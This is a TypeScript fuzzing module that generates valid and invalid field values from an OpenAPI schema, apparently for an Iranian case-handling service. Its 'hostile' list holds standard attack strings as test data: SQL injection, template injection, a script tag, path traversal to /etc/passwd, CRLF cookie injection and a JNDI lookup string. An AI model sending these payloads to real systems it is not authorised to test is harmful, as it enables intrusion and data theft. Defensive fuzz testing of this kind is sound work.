/** Generates the values of fields: valid ones from the OpenAPI document's schemas, and hostile ones from a fixed list. */

import fc from "fast-check";
import { exampleNationalCode } from "../../shared/domain/people/national-code.ts";
import { definitions } from "./document.ts";
import { type JsonSchema, resolved } from "./schema.ts";

/** A placeholder for a value that only the running system knows, such as a request's code; filled when the request is sent. */
export class FromSystem {
  readonly name: string;
  readonly pick: number;
  constructor(name: string, pick: number) {
    this.name = name;
    this.pick = pick;
  }
}

const fromSystem = [
  "code",
  "mobile",
  "challenge",
  "oneTimeCode",
  "kind",
  "subject",
  "province",
  "unit",
  "units",
  "people",
  "person",
  "complainedOfUnit",
  "due",
  "day",
  "handedIn",
  ...["date", "answerBy"],
  "padCode",
  "time",
  "with",
  "from",
  "earlier",
  "outcome",
  "expert",
  "case",
  "snapshot",
  "block",
  "request",
  "as",
  "pin",
  "pass",
  ...[
    "official",
    "host",
    "deputy",
    "username",
    "meetings",
    "attends",
    "attendees",
    "first",
    "last",
    "begins",
  ],
];

/** Values that are valid in every organisation, by field. */
const anywhere: Readonly<Record<string, readonly string[]>> = {
  about: ["us"],
  until: ["2026-11-24", "2001-01-01"],
  key: ["price-on-label"],
  release: ["description"],
  partner: ["samad"],
  cases: ["123456789018"],
  precedents: ["123456789018"],
  precedent: ["123456789018"],
  notices: ["intake/123456789018/4/0"],
  // For webhooks: the address, and the time from which failed deliveries are sent again (N6).
  url: ["https://letters.peygir.ir/in", "https://93.184.215.14/in"],
  failedSince: ["2026-11-24T00:00:00.000Z"],
};

/**
 * Generators for fields with a rule that JSON Schema cannot express. A field's description names the rule, so each row gives
 * the first words of this description.
 */
const described: readonly (readonly [begins: string, values: fc.Arbitrary<string>])[] = [
  ["Iranian national code", fc.nat(999_999_999).map((n) => exampleNationalCode(n))],
  ["Code of a foreign national", fc.stringMatching(/^[1-9][0-9]{8,11}$/)],
  ["Legal ID", fc.constantFrom("10380284790", "10861677542", "10100171920")],
  ["Passport number", fc.stringMatching(/^[A-Z][0-9]{8}$/)],
  ["Iranian landline", fc.stringMatching(/^0[1-8][0-9]{9}$/)],
  ["Number of the letter", fc.constantFrom("1405/12-7", "۱۴۰۵/۳۳", "77")],
  ["Code of the request at the partner", fc.stringMatching(/^SMD-[1-9][0-9]{8}$/)],
  ["Iranian postal code", fc.constantFrom("1193653471", "1619735744", "۱۱۹۳۶-۵۳۴۷۱")],
  ["E-mail address", fc.stringMatching(/^[a-z]{1,12}\.[a-z]{1,12}@example\.(org|com)$/)],
];

const parts = ["گران", "كالا", "می‌خواهم", "price", "۱۲۳۴", "test", "«پرونده»", "e\u0301", "👪", "ي"];

/**
 * Generates texts of Persian and Latin words with unusual spaces. They are long enough even after the system normalises them.
 */
function wordsOf(least: number, most: number): fc.Arbitrary<string> {
  const begin = "گرانی ".repeat(Math.ceil(least / 5)).trimEnd();
  const room = Math.min(40, Math.floor((most - begin.length) / 10));
  return fc
    .array(fc.constantFrom(...parts), { maxLength: Math.max(0, room) })
    .map((words) => [begin, ...words].join(" "));
}

function textOf(name: string, schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  // The reason of an emergency is a key of the directory (S3); any other `reason` is free text.
  const isKey = name === "reason" && schema.pattern !== undefined;
  if (isKey || fromSystem.includes(name)) return fc.nat(1_000).map((pick) => new FromSystem(name, pick));
  if (Object.hasOwn(anywhere, name)) return fc.constantFrom(...(anywhere[name] ?? []));
  const rule = described.find(([begins]) => schema.description?.startsWith(begins));
  if (rule) return rule[1];
  if (schema.description !== undefined || schema.pattern !== undefined)
    throw new Error(`The fuzzer cannot make a ${name}`);
  return wordsOf(schema.minLength ?? 1, schema.maxLength ?? 300);
}

function tenFrom({ minimum = 0, maximum = 9 }: JsonSchema): { min: number; max: number } {
  const min = Math.max(0, minimum);
  return { min, max: Math.min(maximum, min + 9) };
}

/** Generates values that fit a schema. */
export function valuesOf(given: JsonSchema, name = ""): fc.Arbitrary<unknown> {
  const schema = resolved(given, definitions);
  const either = schema.oneOf ?? schema.anyOf;
  if (either) return fc.oneof(...either.map((one) => valuesOf(one, name)));
  if (schema.type === "array") {
    const { minItems = 0, maxItems = 5 } = schema;
    return fc.array(valuesOf(schema.items ?? {}, name), {
      minLength: minItems,
      maxLength: Math.min(4, maxItems),
    });
  }
  if (schema.type === "boolean") return schema.const === undefined ? fc.boolean() : fc.constant(schema.const);
  if (schema.type === "integer") return fc.integer(tenFrom(schema));
  if (schema.type !== "object" || name === "snapshot") return textOf(name, schema);
  const fields = Object.entries(schema.properties ?? {}).map(([field, each]) => [
    field,
    valuesOf(each, field),
  ]);
  return fc.record(Object.fromEntries(fields), { requiredKeys: [...(schema.required ?? [])] as never[] });
}

/** Generates hostile texts, such as scripts, control characters and injections. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "\u0000",
    "\u202E‮؜",
    "\uFEFF",
    "\uD800",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e999",
    "__proto__",
    "constructor",
    "toString",
    "' OR 1=1 --",
    '"; DROP TABLE requests; --',
    "{{7*7}}<%= 7*7 %>#{7*7}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "\r\nSet-Cookie: session=stolen",
    '=HYPERLINK("https://example.org")',
    "%{jndi:ldap://example.org/a}",
    "ﷺ".repeat(50),
    "Z̸̡̢̛͎̗".repeat(60),
    "۰۱۲۳۴۵۶۷۸۹",
    "٠١٢٣٤٥٦٧٨٩",
    "𝟘𝟙𝟚",
    "a".repeat(70_000),
  ),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
);

/** Generates values of types other than text, including numbers at the limits of their type. */
export const wrongTypes: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(0, -1, 1e308, -0.0, Number.MAX_SAFE_INTEGER + 2, true, false, null, [], [[]], {}, [null]),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);
